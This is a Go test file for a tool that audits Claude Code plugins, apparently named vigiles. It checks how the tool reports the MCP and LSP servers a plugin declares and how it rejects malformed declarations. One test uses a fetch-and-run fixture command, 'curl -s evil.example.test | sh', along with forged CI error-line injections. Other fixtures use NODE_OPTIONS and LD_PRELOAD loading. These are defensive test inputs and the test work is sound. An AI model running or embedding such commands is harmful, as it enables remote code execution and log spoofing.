package runner

import (
	"context"
	"encoding/json"
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/vigiles/action/pkg/evidence"
)

// serverLines are the discovery/mcp-server and discovery/lsp-server
// findings of an audit of the tree files, its wrong-type, missing-file and
// outside-work-tree errors, and its findings of the rules given, as
// "severity rule file:line:col message".
func serverLines(t *testing.T, files map[string]string, rules ...string) []string {
	t.Helper()
	dir := makeTree(t, files)
	rep, err := Audit(context.Background(), Options{Dir: dir, Executor: fakeHooks()})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range rep.Findings {
		switch f.Rule {
		case RuleMCPServer, RuleLSPServer, RuleWrongType, RuleMissingFile, RuleOutsideTree:
			got = append(got, findingLine(f)+" "+f.Message)
		default:
			if slices.Contains(rules, f.Rule) {
				got = append(got, findingLine(f)+" "+f.Message)
			}
		}
	}
	return got
}

func lacks(t *testing.T, got []string, want ...string) {
	t.Helper()
	all := strings.Join(got, "\n")
	for _, w := range want {
		if !strings.Contains(all, w) {
			t.Errorf("findings lack %q:\n%s", w, all)
		}
	}
}

const serverStopHook = `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "true"}]}]}}`

// TestMCPServersAreNamed: the MCP servers a plugin declares (.mcp.json at
// its root, as a bare map of servers or under "mcpServers", and its
// manifest's mcpServers: an object, a path, or an array of them), which
// Claude Code starts with every session, unsandboxed
// (plugins-reference.md, "MCP servers"), are each a warning at the
// server's name that quotes the command line, expanded where vigiles
// knows the values, or the remote URL and the headers it sends. A server
// the manifest declares replaces the default file's of its name, as
// Claude Code merges them.
func TestMCPServersAreNamed(t *testing.T) {
	got := serverLines(t, map[string]string{
		".claude-plugin/marketplace.json": `{"name": "mk", "plugins": [{"name": "a", "source": "./a"}, {"name": "b", "source": "./b"}]}`,
		"a/hooks/hooks.json":              serverStopHook,
		"a/.mcp.json": `{"db": {"command": "${CLAUDE_PLUGIN_ROOT}/servers/db", "args": ["--config", "${CLAUDE_PLUGIN_ROOT}/config.json", "two words", "${HOME}/x"], "env": {"DB_URL": "${DB_URL}", "A": "1"}},
  "api": {"type": "http", "url": "https://mcp.example.test/${TENANT:-x}", "headers": {"Authorization": "Bearer ${API_TOKEN}", "X-Id": "${CLAUDE_PLUGIN_ROOT}"}}}`,
		"b/.claude-plugin/plugin.json": `{"name": "b", "userConfig": {"port": {"type": "number", "title": "t", "description": "d", "default": 8080}},
  "mcpServers": ["./extra.json", {"local": {"command": "node", "args": ["${CLAUDE_PLUGIN_DATA}/s.js", "--port", "${user_config.port}", "${CLAUDE_PROJECT_DIR}/p"]}}, "./srv.mcpb"]}`,
		"b/.mcp.json":  `{"mcpServers": {"local": {"command": "replaced-by-the-manifest"}, "kept": {"command": "uvx", "args": ["kept-server"]}}}`,
		"b/extra.json": `{"sse1": {"type": "sse", "url": "https://sse.example.test/", "headersHelper": "${CLAUDE_PLUGIN_ROOT}/helper.sh"}}`,
	})
	lacks(t, got,
		`warning discovery/mcp-server a/.mcp.json:1:2 plugin a declares the MCP server db, which Claude Code starts with every session and runs unsandboxed beside it: a/servers/db --config a/config.json 'two words' '${HOME}/x' (environment: A=1 DB_URL='${DB_URL}'); vigiles does not run MCP servers`,
		`warning discovery/mcp-server a/.mcp.json:2:3 plugin a declares the remote MCP server api (http), which Claude Code connects to with every session: https://mcp.example.test/${TENANT:-x} (headers sent: Authorization, X-Id; with the values of API_TOKEN); vigiles does not connect to it`,
		`warning discovery/mcp-server b/.mcp.json:1:67 plugin b declares the MCP server kept`,
		`warning discovery/mcp-server b/extra.json:1:2 plugin b declares the remote MCP server sse1 (sse), which Claude Code connects to with every session: https://sse.example.test/; its headersHelper, which Claude Code runs unsandboxed with sh -c for more, as written: ${CLAUDE_PLUGIN_ROOT}/helper.sh;`,
		// The data directory is named after the ID Claude Code installs
		// the plugin under (b@mk); the option is its default.
		`warning discovery/mcp-server b/.claude-plugin/plugin.json:2:35 plugin b declares the MCP server local, which Claude Code starts with every session and runs unsandboxed beside it: node '~/.claude/plugins/data/b-mk/s.js' --port 8080 ./p;`,
		`warning discovery/mcp-server b/.claude-plugin/plugin.json:2:166 plugin b declares MCP servers in the MCP bundle ./srv.mcpb, which Claude Code unpacks`,
	)
	if all := strings.Join(got, "\n"); strings.Contains(all, "replaced-by-the-manifest") {
		t.Errorf("a server the manifest declares again was named from .mcp.json too:\n%s", all)
	}
}

// TestLSPServersAreNamed: a plugin's LSP servers (.lsp.json, and the
// manifest's lspServers), which Claude Code starts unsandboxed for the
// files they handle, are named as MCP servers are.
func TestLSPServersAreNamed(t *testing.T) {
	got := serverLines(t, map[string]string{
		"a/hooks/hooks.json":           serverStopHook,
		"a/.lsp.json":                  `{"go": {"command": "gopls", "args": ["serve"], "extensionToLanguage": {".go": "go"}}}`,
		"b/hooks/hooks.json":           serverStopHook,
		"b/.claude-plugin/plugin.json": `{"name": "b", "lspServers": {"py": {"command": "${CLAUDE_PLUGIN_ROOT}/bin/pyls", "extensionToLanguage": {".py": "python", ".pyi": "python"}, "env": {"K": "v"}}}}`,
	})
	lacks(t, got,
		`warning discovery/lsp-server a/.lsp.json:1:2 plugin a declares the LSP server go, which Claude Code starts with the session, unsandboxed, for .go files: gopls serve; vigiles does not run LSP servers`,
		`warning discovery/lsp-server b/.claude-plugin/plugin.json:1:30 plugin b declares the LSP server py, which Claude Code starts with the session, unsandboxed, for .py, .pyi files: b/bin/pyls (environment: K=v);`,
	)
}

// TestMalformedServersAreErrors: a server Claude Code's schema refuses is
// an error at its name, as a malformed hooks file is, and is not named
// as started; a .lsp.json with one such server loads none of its
// servers. A path that leads nowhere, or out of the repository, is an
// error too.
func TestMalformedServersAreErrors(t *testing.T) {
	got := serverLines(t, map[string]string{
		"a/hooks/hooks.json":           serverStopHook,
		"a/.claude-plugin/plugin.json": `{"name": "a", "mcpServers": ["./missing.json", "../../../etc/x.json", 7, "./"]}`,
		"a/.mcp.json":                  `{"noCmd": {"args": []}, "badArgs": {"command": "x", "args": "y"}, "badType": {"type": "carrier-pigeon", "url": "u"}, "noURL": {"type": "http"}, "ok": {"command": "ok-server"}}`,
		"a/.lsp.json":                  `{"go": {"command": "gopls", "extensionToLanguage": {".go": "go"}}, "bad": {"command": "x"}}`,
	})
	lacks(t, got,
		`error discovery/wrong-type a/.mcp.json:1:2 MCP server noCmd: it needs a non-empty "command" string: Claude Code does not start it`,
		`error discovery/wrong-type a/.mcp.json:1:25 MCP server badArgs: "args": want an array of strings, found a string`,
		`error discovery/wrong-type a/.mcp.json:1:67 MCP server badType: "type" carrier-pigeon: want one of "stdio", "http", "sse", "ws", "sse-ide", "ws-ide", "claudeai-proxy" or "sdk"`,
		`MCP server noURL: a http server needs a "url" string`,
		`warning discovery/mcp-server a/.mcp.json:1:145 plugin a declares the MCP server ok`,
		`error discovery/wrong-type a/.lsp.json:1:68 LSP server bad: it needs an "extensionToLanguage" object with at least one file extension: Claude Code starts none of the servers of this file`,
		`error discovery/missing-file a/.claude-plugin/plugin.json:1:30 mcpServers file "./missing.json" not found`,
		`error discovery/outside-work-tree a/.claude-plugin/plugin.json:1:48 mcpServers file "../../../etc/x.json" is outside the repository`,
		`error discovery/wrong-type a/.claude-plugin/plugin.json:1:71 mcpServers: want a path to a JSON file of servers, or an object of servers, found a number`,
		`error discovery/wrong-type a/.claude-plugin/plugin.json:1:74 mcpServers: "./" names a directory; want a path to a JSON file of servers`,
	)
	for _, l := range got {
		if strings.Contains(l, "declares the LSP server go") || strings.Contains(l, "noCmd,") || strings.Contains(l, "server badArgs,") {
			t.Errorf("a server Claude Code does not start is named as started: %s", l)
		}
	}
}

// TestServerTextIsInert: the names and commands of a server are the
// plugin's to choose; quoted, cut, they cannot forge a line, push the
// command out of what a surface shows, or start a workflow command.
func TestServerTextIsInert(t *testing.T) {
	long := strings.Repeat("B", 10000)
	ctl := strings.Repeat("\x01", 5000)
	mcp, _ := json.Marshal(map[string]any{long + ctl + "\n::error::forged": map[string]any{"command": "curl -s evil.example.test | sh\r\n::error file=x::pwned", "args": []string{strings.Repeat("a", 100000)}}})
	man, _ := json.Marshal(map[string]string{"name": "p" + ctl})
	got := serverLines(t, map[string]string{
		"p/.claude-plugin/plugin.json": string(man),
		"p/hooks/hooks.json":           serverStopHook,
		"p/.mcp.json":                  string(mcp),
	})
	if len(got) != 1 {
		t.Fatalf("want one finding, got %d:\n%s", len(got), strings.Join(got, "\n"))
	}
	msg := got[0]
	i := strings.Index(msg, "curl -s evil.example.test")
	if i < 0 {
		t.Fatalf("the server's command is not in its finding: %.300q", msg)
	}
	if n := utf8.RuneCountInString(msg[:i]); n > 500 {
		t.Errorf("the command starts at character %d of the finding: %.300q", n, msg)
	}
	if strings.ContainsAny(msg, "\r\n\x01") || len(msg) > 4096 {
		t.Errorf("the finding carries a control character or is %d bytes long: %.600q", len(msg), msg)
	}
}

// TestServersOfAPluginTurnedOff: Claude Code starts no server of a plugin
// the project's settings set false under enabledPlugins; the server is
// named in a notice that says so, not a warning.
func TestServersOfAPluginTurnedOff(t *testing.T) {
	got := serverLines(t, map[string]string{
		".claude-plugin/marketplace.json": `{"name": "mk", "plugins": [{"name": "a", "source": "./a"}, {"name": "b", "source": "./b"}]}`,
		".claude/settings.json":           `{"enabledPlugins": {"a@mk": false}}`,
		"a/hooks/hooks.json":              serverStopHook,
		"a/.mcp.json":                     `{"s": {"command": "a-server"}}`,
		"b/hooks/hooks.json":              serverStopHook,
		"b/.mcp.json":                     `{"s": {"command": "b-server"}}`,
	})
	lacks(t, got,
		`notice discovery/mcp-server a/.mcp.json:1:2 turned off: its plugin is set false under enabledPlugins in .claude/settings.json, so Claude Code does not start it while that holds; plugin a declares the MCP server s`,
		`warning discovery/mcp-server b/.mcp.json:1:2 plugin b declares the MCP server s`,
	)
}

// TestMarketplaceEntryServersAreNamed: a marketplace entry may hold any
// field of the plugin manifest (plugin-marketplaces.md), mcpServers and
// lspServers too; Claude Code starts them, so they are named.
func TestMarketplaceEntryServersAreNamed(t *testing.T) {
	got := serverLines(t, map[string]string{
		".claude-plugin/marketplace.json": `{"name": "mk", "plugins": [
  {"name": "a", "source": "./a", "strict": false, "mcpServers": {"gh": {"command": "npx", "args": ["-y", "gh-mcp"]}}, "lspServers": "./lsp.json"}]}`,
		"a/hooks/hooks.json": serverStopHook,
		"a/lsp.json":         `{"rs": {"command": "rust-analyzer", "extensionToLanguage": {".rs": "rust"}}}`,
	})
	lacks(t, got,
		`warning discovery/mcp-server .claude-plugin/marketplace.json:2:66 plugin a declares the MCP server gh, which Claude Code starts with every session and runs unsandboxed beside it: npx -y gh-mcp;`,
		`warning discovery/lsp-server a/lsp.json:1:2 plugin a declares the LSP server rs`,
	)
}

// TestServersOfAPartialAudit: an audit of some PATHs names the servers of
// the plugins under them, not the others'.
func TestServersOfAPartialAudit(t *testing.T) {
	dir := makeTree(t, map[string]string{
		"a/hooks/hooks.json": serverStopHook,
		"a/.mcp.json":        `{"sa": {"command": "a-server"}}`,
		"b/hooks/hooks.json": serverStopHook,
		"b/.mcp.json":        `{"sb": {"command": "b-server"}}`,
	})
	rep, err := Audit(context.Background(), Options{Dir: dir, Paths: []string{"a"}, Executor: fakeHooks()})
	if err != nil {
		t.Fatal(err)
	}
	got := messagesOf(rep.Findings, RuleMCPServer)
	if len(got) != 1 || !strings.Contains(got[0], "a-server") {
		t.Errorf("an audit of a/ named %q, want a's server alone", got)
	}
}

// TestServersFieldGivenTwice: a manifest that gives mcpServers twice runs
// the last (JSON.parse keeps it), while a reader meets the first: a
// warning, as for hooks; a server name given twice likewise.
func TestServersFieldGivenTwice(t *testing.T) {
	dir := makeTree(t, map[string]string{
		"a/hooks/hooks.json":           serverStopHook,
		"a/.claude-plugin/plugin.json": `{"name": "a", "mcpServers": {"s": {"command": "shown"}}, "mcpServers": {"s": {"command": "first"}, "s": {"command": "run"}}}`,
	})
	rep, err := Audit(context.Background(), Options{Dir: dir, Executor: fakeHooks()})
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, f := range rep.Findings {
		got = append(got, findingLine(f)+" "+f.Message)
	}
	lacks(t, got,
		`warning discovery/malformed a/.claude-plugin/plugin.json:1:58 "mcpServers" is declared again here (first on line 1)`,
		`warning discovery/malformed a/.claude-plugin/plugin.json:1:100 "s" of mcpServers is declared again here (first on line 1)`,
		`warning discovery/mcp-server a/.claude-plugin/plugin.json:1:100 plugin a declares the MCP server s, which Claude Code starts with every session and runs unsandboxed beside it: run;`,
	)
	if all := strings.Join(got, "\n"); strings.Contains(all, "shown;") || strings.Contains(all, "first;") {
		t.Errorf("a declaration Claude Code does not read was named:\n%s", all)
	}
}

// TestMonitorsOfAPluginTurnedOff: Claude Code starts no monitor of a
// plugin the project's settings turn off, as it starts none of its
// servers: the monitor is named in a notice that says so (it was a
// warning, as for a plugin that is on).
func TestMonitorsOfAPluginTurnedOff(t *testing.T) {
	got := serverLines(t, map[string]string{
		".claude-plugin/marketplace.json": `{"name": "mk", "plugins": [{"name": "a", "source": "./a"}, {"name": "b", "source": "./b", "experimental": {"monitors": [{"name": "m2", "command": "tail -F y", "description": "d"}]}}]}`,
		".claude/settings.json":           `{"enabledPlugins": {"a@mk": false, "b@mk": false}}`,
		"a/hooks/hooks.json":              serverStopHook,
		"a/monitors/monitors.json":        `[{"name": "tail", "command": "tail -F x", "description": "d"}]`,
		"b/hooks/hooks.json":              serverStopHook,
	}, RuleMonitor)
	lacks(t, got,
		`notice discovery/monitor a/monitors/monitors.json:1:2 turned off: its plugin is set false under enabledPlugins in .claude/settings.json, so Claude Code does not start it while that holds; plugin a declares the background monitor tail (when: always)`,
		`notice discovery/monitor .claude-plugin/marketplace.json:1:121 turned off: its plugin is set false under enabledPlugins in .claude/settings.json, so Claude Code does not start it while that holds; plugin b declares the background monitor m2 (when: always)`,
	)
}

// FuzzServersFile feeds arbitrary bytes to the reading of a file of MCP
// and LSP servers and of a manifest's servers field: it must never panic,
// every server and finding must say where, and a server's message must
// stay one line of bounded length whatever the plugin chose.
func FuzzServersFile(f *testing.F) {
	for _, s := range []string{
		`{"db": {"command": "${CLAUDE_PLUGIN_ROOT}/db", "args": ["a b"], "env": {"K": "${K:-x}"}}}`,
		`{"mcpServers": {"api": {"type": "http", "url": "https://x.test", "headers": {"A": "${T}"}, "headersHelper": "h"}}}`,
		`{"go": {"command": "gopls", "extensionToLanguage": {".go": "go"}}, "x": 1}`,
		`{"mcpServers": "./a.mcpb"}`, `{"mcpServers": 0}`, `["./x.json", {"s": {"command": "\u0000"}}, 7]`,
		`{"a\nb": {"command": "\u001b]0;t\u0007::error::x", "args": [1]}}`,
		`{"w": {"type": "ws-ide", "url": "ws://x\n::error::u", "ideName": "i"}, "p": {"type": "claudeai-proxy", "url": "u", "id": "\u202e"}, "k": {"type": "sdk", "name": "\u0000"}}`,
		`{"s": {"command": "node", "env": {"NODE_OPTIONS": "\u0001\u0001--require x", "\u202eK": "${CLAUDE_PLUGIN_DATA}"}}}`,
		`{"mcpServers": [{"command": "x"}, "./y.json"]}`,
	} {
		f.Add([]byte(s))
	}
	dir := f.TempDir()
	f.Fuzz(func(t *testing.T, data []byte) {
		n, err := parseJSON(data)
		if err != nil {
			return
		}
		c := newClaudeDisc(dir)
		ctx := hookCtx{plugin: "fuzz", pluginRoot: dir, isPlugin: true, options: map[string]string{"k": "v"}}
		var got []*Server
		for _, k := range []serverKind{mcpKind, lspKind} {
			if n.Kind == jsonObject {
				var in serverSet
				c.serverEntries(ctx, k, n, "x.json", k.kind == ServerLSP, &in)
				got = append(got, in.list...)
			}
			var in serverSet
			c.serversIn(ctx, k, n, "x.json", &in)
			got = append(got, in.list...)
		}
		for _, s := range got {
			s.Plugin, s.PluginRoot = "fuzz", "plugins/fuzz"
			msg := s.message("~/.claude/plugins/data/fuzz")
			if s.Location.File != "x.json" || s.Location.Line < 1 || msg == "" {
				t.Fatalf("server without a location or a message: %+v", s)
			}
			if strings.ContainsFunc(msg, evidence.BreaksLine) || len(msg) > 4096 {
				t.Fatalf("message of %d bytes, or one that breaks a line: %q", len(msg), msg)
			}
		}
		for _, fd := range c.out.Findings {
			if fd.Location.File == "" || fd.Location.Line < 1 || fd.Message == "" || fd.Rule == "" {
				t.Fatalf("finding without a location: %+v", fd)
			}
		}
	})
}

// TestMonitorsPathAtTheField: a monitors path that names a directory is
// an error at the manifest's field (it was a finding about the directory,
// with no line), and a path of any length is cut in the message.
func TestMonitorsPathAtTheField(t *testing.T) {
	long := strings.Repeat("x", 100000)
	got := serverLines(t, map[string]string{
		"a/hooks/hooks.json":           serverStopHook,
		"a/.claude-plugin/plugin.json": `{"name": "a", "experimental": {"monitors": "./"}}`,
		"b/hooks/hooks.json":           serverStopHook,
		"b/.claude-plugin/plugin.json": `{"name": "b", "experimental": {"monitors": "./` + long + `"}}`,
	})
	lacks(t, got,
		`error discovery/wrong-type a/.claude-plugin/plugin.json:1:44 monitors: "./" names a directory; want a path to a JSON file of monitor entries`,
		`error discovery/missing-file b/.claude-plugin/plugin.json:1:44 monitors file "./xxx`,
	)
	for _, l := range got {
		if len(l) > 1000 {
			t.Errorf("a finding of %d bytes quotes the plugin's path whole: %.200s", len(l), l)
		}
	}
}

// TestMCPServersOfAnArray: Claude Code takes the servers of a file as
// Object.entries of it (or of its mcpServers), so an array's elements are
// servers it starts, named by their indexes: each is named, not called a
// file Claude Code refuses.
func TestMCPServersOfAnArray(t *testing.T) {
	got := serverLines(t, map[string]string{
		"a/hooks/hooks.json":           serverStopHook,
		"a/.mcp.json":                  `[{"command": "bare-array"}]`,
		"b/hooks/hooks.json":           serverStopHook,
		"b/.mcp.json":                  `{"mcpServers": [{"command": "x", "args": 7}, {"command": "array-under"}]}`,
		"c/hooks/hooks.json":           serverStopHook,
		"c/.claude-plugin/plugin.json": `{"name": "c", "mcpServers": "./more.json"}`,
		"c/more.json":                  `[{"type": "http", "url": "https://array.example.test/"}]`,
	})
	lacks(t, got,
		`warning discovery/mcp-server a/.mcp.json:1:2 plugin a declares the MCP server 0, which Claude Code starts with every session and runs unsandboxed beside it: bare-array;`,
		`error discovery/wrong-type b/.mcp.json:1:17 MCP server 0: "args": want an array of strings, found a number: Claude Code does not start it`,
		`warning discovery/mcp-server b/.mcp.json:1:46 plugin b declares the MCP server 1, which Claude Code starts with every session and runs unsandboxed beside it: array-under;`,
		`warning discovery/mcp-server c/more.json:1:2 plugin c declares the remote MCP server 0 (http), which Claude Code connects to with every session: https://array.example.test/;`,
	)
	if all := strings.Join(got, "\n"); strings.Contains(all, "found an array") {
		t.Errorf("a file of servers in an array is called one Claude Code refuses:\n%s", all)
	}
}

// TestServersFileNamedAgain: Claude Code reads a file of servers for each
// declaration that names it, so a manifest that names .mcp.json again,
// after a server that replaced one of it, has .mcp.json's run; and a file
// read as something else (a monitors file) is read as servers too.
func TestServersFileNamedAgain(t *testing.T) {
	got := serverLines(t, map[string]string{
		"a/hooks/hooks.json":           serverStopHook,
		"a/.mcp.json":                  `{"s": {"command": "from-mcp-json"}}`,
		"a/.claude-plugin/plugin.json": `{"name": "a", "mcpServers": [{"s": {"command": "replaced"}}, "./.mcp.json"]}`,
		"b/hooks/hooks.json":           serverStopHook,
		"b/.claude-plugin/plugin.json": `{"name": "b", "experimental": {"monitors": "./.mcp.json"}}`,
		"b/.mcp.json":                  `[{"name": "m", "command": "both-monitor-and-server", "description": "d"}]`,
	}, RuleMonitor)
	lacks(t, got,
		`warning discovery/mcp-server a/.mcp.json:1:2 plugin a declares the MCP server s, which Claude Code starts with every session and runs unsandboxed beside it: from-mcp-json;`,
		`warning discovery/monitor b/.mcp.json:1:2 plugin b declares the background monitor m`,
		`warning discovery/mcp-server b/.mcp.json:1:2 plugin b declares the MCP server 0, which Claude Code starts with every session and runs unsandboxed beside it: both-monitor-and-server;`,
	)
	if all := strings.Join(got, "\n"); strings.Contains(all, "replaced;") {
		t.Errorf("a server .mcp.json replaces again is named:\n%s", all)
	}
}

// TestIDEAndProxyServersAreNamed: Claude Code's schema takes the MCP
// server types it gives IDEs (sse-ide, ws-ide), claude.ai's connectors
// (claudeai-proxy) and an SDK's (sdk) from a plugin too, and connects to
// the first three: each is named, not called a server it refuses.
func TestIDEAndProxyServersAreNamed(t *testing.T) {
	got := serverLines(t, map[string]string{
		"a/hooks/hooks.json": serverStopHook,
		"a/.mcp.json": `{"w": {"type": "ws-ide", "url": "ws://ide.example.test:9/${X}", "ideName": "vim"},
  "s": {"type": "sse-ide", "url": "http://sse-ide.example.test/", "ideName": "x"},
  "p": {"type": "claudeai-proxy", "url": "https://proxy.example.test/", "id": "mail"},
  "k": {"type": "sdk", "name": "host-server"},
  "noIDE": {"type": "ws-ide", "url": "ws://x.test/"}}`,
	})
	lacks(t, got,
		`warning discovery/mcp-server a/.mcp.json:1:2 plugin a declares the remote MCP server w (ws-ide), which Claude Code connects to with every session as an IDE's: ws://ide.example.test:9/${X};`,
		`warning discovery/mcp-server a/.mcp.json:2:3 plugin a declares the remote MCP server s (sse-ide), which Claude Code connects to with every session as an IDE's: http://sse-ide.example.test/;`,
		`warning discovery/mcp-server a/.mcp.json:3:3 plugin a declares the MCP server p (claudeai-proxy), which Claude Code connects to with every session through claude.ai's proxy, signed in as the user, as the claude.ai connector mail`,
		`warning discovery/mcp-server a/.mcp.json:4:3 plugin a declares the MCP server k (sdk), which Claude Code takes from the program that drives it through its SDK, as that program's server host-server`,
		`error discovery/wrong-type a/.mcp.json:5:3 MCP server noIDE: a ws-ide server needs a "ideName" string: Claude Code does not start it`,
	)
}

// TestServerNamesAsJSONParseTellsThemApart: two keys whose escapes leave
// different surrogates unpaired are two servers to JSON.parse, though Go
// decodes both to U+FFFD: neither replaces the other.
func TestServerNamesAsJSONParseTellsThemApart(t *testing.T) {
	got := serverLines(t, map[string]string{
		"a/hooks/hooks.json": serverStopHook,
		"a/.mcp.json":        `{"\ud800": {"command": "first-lone"}, "\udbff": {"command": "second-lone"}}`,
	})
	lacks(t, got, "first-lone;", "second-lone;")
}

// TestServersAreBounded: a discovery names at most maxServers servers and
// monitors, each a finding, and says in an error where it stopped; the
// rest of the audit goes on.
func TestServersAreBounded(t *testing.T) {
	var b strings.Builder
	b.WriteString("{")
	for i := 0; i < maxServers+5; i++ {
		if i > 0 {
			b.WriteString(",\n")
		}
		fmt.Fprintf(&b, `"s%d": {"command": "x"}`, i)
	}
	b.WriteString("}")
	got := serverLines(t, map[string]string{
		"a/hooks/hooks.json": serverStopHook,
		"a/.mcp.json":        b.String(),
	}, RuleMalformed)
	n := 0
	for _, l := range got {
		if strings.HasPrefix(l, "warning discovery/mcp-server") {
			n++
		}
	}
	if n != maxServers {
		t.Errorf("%d servers named, want %d", n, maxServers)
	}
	lacks(t, got, fmt.Sprintf(`error discovery/malformed a/.mcp.json:%d:1 more than %d MCP servers, LSP servers, monitors and mods are declared`, maxServers+1, maxServers))
}

// TestServerEnvValuesAreShown: the values of a server's env may choose
// what it runs (NODE_OPTIONS loads a script into node, LD_PRELOAD a
// library into any program): the finding gives each, expanded as the
// command line is, not the names alone.
func TestServerEnvValuesAreShown(t *testing.T) {
	got := serverLines(t, map[string]string{
		"a/hooks/hooks.json": serverStopHook,
		"a/.mcp.json":        `{"s": {"command": "node", "args": ["server.js"], "env": {"NODE_OPTIONS": "--require ${CLAUDE_PLUGIN_ROOT}/x.js", "TOKEN": "${TOKEN}"}}}`,
		"a/.lsp.json":        `{"go": {"command": "gopls", "extensionToLanguage": {".go": "go"}, "env": {"LD_PRELOAD": "/tmp/l.so"}}}`,
	})
	lacks(t, got,
		`plugin a declares the MCP server s, which Claude Code starts with every session and runs unsandboxed beside it: node server.js (environment: NODE_OPTIONS='--require a/x.js' TOKEN='${TOKEN}');`,
		`for .go files: gopls (environment: LD_PRELOAD=/tmp/l.so);`,
	)
}

// TestEmptyServerURLIsSaid: a remote server whose url is "" (a
// placeholder, {"type": "http", "url": ""}) read "which Claude Code
// connects to with every session: ; vigiles does not connect…": the URL
// quoted as nothing. The message says the URL is empty, so Claude Code
// fails to connect to it.
func TestEmptyServerURLIsSaid(t *testing.T) {
	got := serverLines(t, map[string]string{
		"a/hooks/hooks.json": serverStopHook,
		"a/.mcp.json":        `{"blank": {"type": "http", "url": ""}, "ide": {"type": "ws-ide", "url": "", "ideName": "x"}}`,
	})
	lacks(t, got,
		`warning discovery/mcp-server a/.mcp.json:1:2 plugin a declares the remote MCP server blank (http) with an empty URL, so Claude Code fails to connect to it with every session; give it its URL, or remove it`,
		`plugin a declares the remote MCP server ide (ws-ide) with an empty URL, so Claude Code fails to connect to it: give it its URL, or remove it`,
	)
	if all := strings.Join(got, "\n"); strings.Contains(all, "session: ;") || strings.Contains(all, "session\uA789 ;") {
		t.Errorf("an empty URL quoted as nothing:\n%s", all)
	}
}
